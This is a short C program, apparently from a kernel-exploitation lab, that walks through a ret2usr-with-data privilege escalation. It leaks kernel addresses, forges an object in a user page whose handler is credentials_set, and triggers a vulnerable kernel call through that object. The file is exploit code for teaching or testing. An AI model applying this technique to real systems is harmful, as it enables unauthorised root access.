/* ret2usr with data: the kernel calls through a forged object in a user page. */
#include <stdio.h>

#include "attack.h"

int main(void)
{
	struct bw_leak leak;

	attack_leak(&leak);

	void *page = attack_pages(BW_PAGE_SIZE);

	payload_object(page, (uintptr_t)page, &leak);
	attack_say("forged object at 0x%lx, a user address", (uintptr_t)page);
	attack_say("its handler is credentials_set at 0x%lx", leak.credentials_set);
	attack_check("vuln_call", bw_vuln_call((uintptr_t)page));
	return attack_finish();
}
